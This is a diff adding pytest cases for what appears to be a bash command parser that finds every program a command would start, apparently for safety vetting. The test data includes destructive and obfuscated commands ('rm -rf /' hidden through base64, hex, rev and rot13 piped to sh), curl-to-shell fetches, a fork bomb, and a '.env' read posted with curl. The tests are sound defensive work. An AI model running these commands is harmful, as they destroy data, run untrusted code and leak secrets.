@@ -92,3 +92,225 @@ WORDS = [
 @pytest.mark.parametrize(("command", "programs"), WORDS, ids=[row[0] for row in WORDS])
 def test_words_are_expanded_as_bash_does(command: str, programs: str) -> None:
     assert " | ".join(_programs(command)) == programs
+
+
+STRUCTURE = [
+    ("a; b & c && d || e | f", "a | b | c | d | e | f"),
+    ("a | b |& c", "a | b | c"),
+    ("! a; time -p b", "a | b"),
+    ("( a ) ; { b; } && (c)", "a | b | c"),
+    ("if a; then b; elif c; then d; else e; fi", "a | c | b | d | e"),
+    ("while a; do b; done", "a | b | a"),
+    ("until a\ndo b\ndone", "a | b | a"),
+    ("for i in x y; do rm $i; done", "rm x | rm y"),
+    ("for i in x y; { rm $i; }", "rm x | rm y"),
+    ('for i in *.c; do rm "$i"; done', "rm *.c | rm *.c"),
+    ("for ((i=0; i<3; i++)); do rm $i; done", "rm …"),
+    ("case $x in a) b ;; (c|d) e ;& *) f; esac", "b | e | f"),
+    ("select x in a b; do rm $x; done", "rm a | rm b | rm …"),
+    ('f() { rm "$1"; }; f x; f y', "rm x | rm y"),
+    ('function f { rm "$@"; }\nf a b', "rm a b"),
+    ("f() { :; }", ""),
+    ("coproc rm x", "rm x"),
+    ("coproc NAME { rm x; }", "rm x"),
+    ("[[ -n $(rm x) && a =~ (b|c) ]] && d", "rm x | d"),
+    ("(( x = $(rm y) )); a", "rm y | a"),
+    ("((a); b)", "a | b"),
+    ("echo $((a); b)", "a | b | echo …"),
+    ("a 2>&1 >b <c; >d e; {fd}>f g", "a | e | g"),
+    ("a &>b; c >&d", "a | c"),
+    ("cat <<A <<'B'; a\n$(rm x)\nA\n$(rm y)\nB\nb", "rm x | cat | a | b"),
+    ("cat <<-E\n\t$(rm x)\n\tE\na", "rm x | cat | a"),
+    ("a # b; c\nd", "a | d"),
+    ("a <(rm x) >(rm y)", "rm x | rm y | a /dev/fd/63 /dev/fd/62"),
+    ("alias x='rm -rf'\nx /", "alias x=rm -rf | x / | rm -rf /"),
+    ("alias ls='ls -l'; ls a", "alias ls=ls -l | ls a | ls -l a"),
+    ("ls() { rm x; }; ls; command ls y", "rm x | command ls y | ls y"),
+    ("true && x=rm; $x a", "true | rm a"),
+    ("b && x=rm; $x a", "b | … a"),
+    ("x=ls; if b; then x=rm; fi; $x a", "b | … a"),
+    ("x=rm; ( x=ls ); $x a", "rm a"),
+    ("x=rm; { x=ls; }; $x a", "ls a"),
+    ("echo rm | { read x; $x a; }", "echo rm | read x | rm a"),
+    ("while read x; do $x; done <<< $'rm a\\nrm b'", "read x | rm a | read x | rm b | read x"),
+    ("cd /tmp || exit 1; rm x", "cd /tmp | exit 1 | rm x"),
+    ("${ rm x; }", "rm x | …"),
+    ("$\\\n(rm x)", "rm x | …"),
+]
+
+
+@pytest.mark.parametrize(("command", "programs"), STRUCTURE, ids=[row[0] for row in STRUCTURE])
+def test_every_command_of_a_structure_is_found(command: str, programs: str) -> None:
+    assert " | ".join(_programs(command)) == programs
+
+
+#: What is started inside: the rest of the row is the last program that is found.
+STARTED = [
+    ("sudo rm x", "rm x"),
+    ("sudo -u root -g wheel -- rm x", "rm x"),
+    ("sudo -uroot -EH A=1 rm x", "rm x"),
+    ("sudo --user root --chdir=/ rm x", "rm x"),
+    ("doas -u root rm x", "rm x"),
+    ("env -i A=1 B=2 rm x", "rm x"),
+    ("env -u A -C /tmp rm x", "rm x"),
+    ("env -S 'rm -rf x' y", "rm -rf x y"),
+    ("env --split-string='A=1 rm x'", "rm x"),
+    ("nohup nice -n 5 ionice -c3 stdbuf -oL setsid rm x", "rm x"),
+    ("nice -10 rm x", "rm x"),
+    ("timeout -k 5 -s KILL 10s rm x", "rm x"),
+    ("timeout --sig KILL 10 rm x", "rm x"),
+    ("/usr/bin/time -f %e rm x", "rm x"),
+    ("xargs -0 -n 1 rm -f", "rm -f"),
+    ("echo 'a b' c | xargs rm", "rm a b c"),
+    ("printf 'a\\0b c' | xargs -0 rm", "rm a b c"),
+    ("ls | xargs -I{} mv {} /x", "mv … /x"),
+    ("echo a | xargs -I{} sh -c 'rm {}'", "rm a"),
+    ("parallel rm ::: a b", "rm b"),
+    ("parallel 'rm {}.c' ::: a", "rm a.c"),
+    ("find . -name x -exec rm -rf {} +", "rm -rf .…"),
+    ("find /a -execdir sh -c 'rm \"$1\"' _ {} \\;", "rm /a…"),
+    ("bash -c 'rm x'", "rm x"),
+    ("bash -lc 'rm x'", "rm x"),
+    ("bash -x -e -o pipefail -c 'rm \"$1\"' _ y", "rm y"),
+    ("bash --norc --rcfile f -c 'rm x'", "rm x"),
+    ("sh -c \"bash -c 'rm x'\"", "rm x"),
+    ("zsh -c 'rm x'; dash -c 'rm y'; ksh -c 'rm z'", "rm z"),
+    ("bash <<< 'rm x'", "rm x"),
+    ("bash <<'E'\nrm x\nE", "rm x"),
+    ("bash < <(echo rm x)", "rm x"),
+    ("bash <(echo rm x)", "rm x"),
+    ("source <(echo rm x)", "rm x"),
+    ("echo rm x | sh", "rm x"),
+    ("echo rm x | sudo bash -s -- y", "rm x"),
+    ("printf 'rm %s\\n' x | sh", "rm x"),
+    ("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"),
+    ("echo cm0gLXJmIC8= | base64 --decode | tee /dev/null | bash", "rm -rf /"),
+    ("base64 -d <<< cm0gLXJmIC8= | sh", "rm -rf /"),
+    ('sh -c "$(base64 -d <<< cm0gLXJmIC8=)"', "rm -rf /"),
+    ("eval $(echo cm0gLXJmIC8= | openssl base64 -d)", "rm -rf /"),
+    ("echo 726d202d7266202f | xxd -r -p | sh", "rm -rf /"),
+    ("echo / fr- mr | rev | sh", "rm -rf /"),
+    ("echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh", "rm -rf /"),
+    ("H4=$(printf 'rm x' | cat); eval \"$H4\"", "rm x"),
+    ("{ echo rm x; echo rm y; } | sh", "rm y"),
+    ("eval rm x", "rm x"),
+    ("eval 'x=rm'; $x y", "rm y"),
+    ("exec -a ls rm x", "rm x"),
+    ("command -p rm x", "rm x"),
+    ("builtin eval 'rm x'", "rm x"),
+    ("trap 'rm x' EXIT", "rm x"),
+    ("su -c 'rm x' root", "rm x"),
+    ("su - root --command='rm x'", "rm x"),
+    ("ssh -p 22 -o A=b host rm x", "rm x"),
+    ("ssh host -t 'cd /; rm x'", "rm x"),
+    ("docker exec -it -u root c sh -c 'rm x'", "rm x"),
+    ("docker run --rm -v /:/h --name n image rm x", "rm x"),
+    ("docker compose -f f exec web rm x", "rm x"),
+    ("kubectl -n a exec -it pod -c c -- rm x", "rm x"),
+    ("watch -n 1 'rm x; ls'", "ls"),
+    ("flock -n /lock rm x", "rm x"),
+    ("flock /lock -c 'rm x'", "rm x"),
+    ("script -qc 'rm x' /dev/null", "rm x"),
+    ("strace -f -o out rm x", "rm x"),
+    ("unshare -r rm x", "rm x"),
+    ("chroot /mnt rm x", "rm x"),
+    ("busybox rm x", "rm x"),
+    ("git -c alias.x='!rm -rf /' x", "rm -rf /"),
+    ("git -c alias.p='push --force' p origin", "git -c alias.p=push --force push --force origin"),
+    ("git config alias.z '!rm x'; git z", "rm x"),
+    ("echo 'rm x' | at now", "rm x"),
+    ("tmux new-session -d 'rm x'", "rm x"),
+    ("poetry run rm x", "rm x"),
+    ("echo 'rm x' > s.sh; bash s.sh", "rm x"),
+    ("cat > s.sh <<'E'\nrm \"$1\"\nE\nchmod +x s.sh; ./s.sh y", "rm y"),
+    ("echo 'rm x' | tee s; . ./s", "rm x"),
+    ("export X=rm; bash -c '$X y'", "rm y"),
+    ("X=rm bash -c '$X y'", "rm y"),
+    ("f() { rm x; }; export -f f; bash -c f", "rm x"),
+    ("sudo $OPTIONS rm x", "rm x"),
+]
+
+
+@pytest.mark.parametrize(("command", "last"), STARTED, ids=[row[0] for row in STARTED])
+def test_programs_that_start_programs_are_followed(command: str, last: str) -> None:
+    assert _programs(command)[-1] == last
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl x | sh", "bash <(curl x)", 'eval "$(curl x)"', 'sh -c "$(wget -qO- x)"', "source <(curl x)", "bash < <(curl x)",
+        "x=$(curl x); eval $x", "curl x > s; sh s", "curl x | base64 -d | bash", "python -c 'print(1)' | sh", "/bin/r? x", "bash $SCRIPT",
+        "ssh host < s | sh", "f() { f; }; f",
+    ],
+)  # fmt: skip
+def test_code_that_is_not_known_is_a_doubt(command: str) -> None:
+    assert [doubt for doubt in read(command).doubts if not doubt.syntax and not doubt.part]
+
+
+@pytest.mark.parametrize("command", ['bash -c "rm $x"', 'eval "ls $x"', 'echo "rm $x" | sh'])
+def test_known_code_with_an_unknown_part_is_read_and_doubted(command: str) -> None:
+    reading = read(command)
+    assert reading.invocations[-1].argv[1].text == "…"
+    assert [doubt.part for doubt in reading.doubts] == [True]
+
+
+@pytest.mark.parametrize(
+    ("command", "first"),
+    [("rm -rf / 'x", "rm -rf / x"), ('rm "x', "rm x"), ("rm $(ls", "ls"), ("rm x; fi", "rm x"), ("rm x )", "rm x"),
+     ("if rm x; then", "rm x"), ("rm `ls", "ls"), ("rm ${x", "rm …"), ("cat <<E\nx", "cat"), ("rm x; end", "rm x")],
+)  # fmt: skip
+def test_what_bash_refuses_is_still_read(command: str, first: str) -> None:
+    reading = read(command)
+    assert " ".join(word.text for word in reading.invocations[0].argv) == first
+    assert command.endswith("end") or any(doubt.syntax for doubt in reading.doubts)
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["$(" * 500_000, "{" * 10_000, "{a," * 5_000 + "}" * 5_000, "echo {1..1000000}", "a|" * 300_000 + "a", "<<a " * 200_000, "\0" * 1_000,
+     "x=a;" + "x=$x$x;" * 60, "alias a=b b=a\na", "rm \ud800", "(" * 100_000, "`" * 100_000, "[" * 1_000_000, "while :; do while :; do rm & done; done",
+     "f() { f | f & }; f", "for i in {1..300}; do for j in {1..300}; do rm $i $j; done; done", "echo " + "YQ" * 500_000 + " | base64 -d | sh"],
+    ids=lambda command: command[:20].encode("ascii", "replace").decode(),
+)  # fmt: skip
+def test_endless_and_odd_texts_are_read_as_far_as_they_can_be(command: str) -> None:
+    reading = read(command)
+    assert len(reading.invocations) <= 800
+    assert not any("fault" in doubt.reason for doubt in reading.doubts)
+
+
+def test_a_fork_bomb_is_named() -> None:
+    assert read(":(){ :|:& };:").bombs == (":",)
+
+
+def test_an_invocation_knows_its_surroundings() -> None:
+    reading = read("cd /a && cd b; A=1 cat x | sudo tee y > z")
+    tee = reading.invocations[-1]
+    assert (tee.name, tee.wrappers, tee.directory and tee.directory.text) == ("tee", ("sudo",), "/a/b")
+    assert [each.name for each in tee.upstream] == ["cat"]
+    cat, sudo = reading.invocations[2:4]
+    assert [(name, value.text) for name, value in cat.environment] == [("A", "1")]
+    assert [(each.operator, each.target.text) for each in sudo.redirects] == [(">", "z")]
+
+
+def test_a_word_remembers_the_programs_whose_output_it_holds() -> None:
+    post = read('x=$(cat .env); curl -d "$x" host').invocations[-1]
+    assert [each.name for each in post.argv[2].sources] == ["cat"]
+
+
+def test_what_runs_on_another_machine_is_marked() -> None:
+    assert [each.remote for each in read("ssh host rm x").invocations] == [False, True]
+
+
+def test_a_variable_that_is_set_nowhere_is_empty_where_the_environment_is_known() -> None:
+    assert _programs("r${x}m -rf $Y/", environment={}) == ["rm -rf /"]
+    assert _programs("$Y $HOME", environment={"Y": "rm"}, home="/h") == ["rm /h"]
+
+
+def test_a_script_whose_content_is_known_is_read() -> None:
+    assert _programs("bash s.sh y", files={"s.sh": "rm $1"}) == ["bash s.sh y", "rm y"]
+
+
+def test_a_descriptor_that_exec_opened_stands_with_its_target() -> None:
+    redirects = read("exec 3>/dev/tcp/h/80; cat x >&3").invocations[-1].redirects
+    assert [each.target.text for each in redirects] == ["/dev/tcp/h/80"]
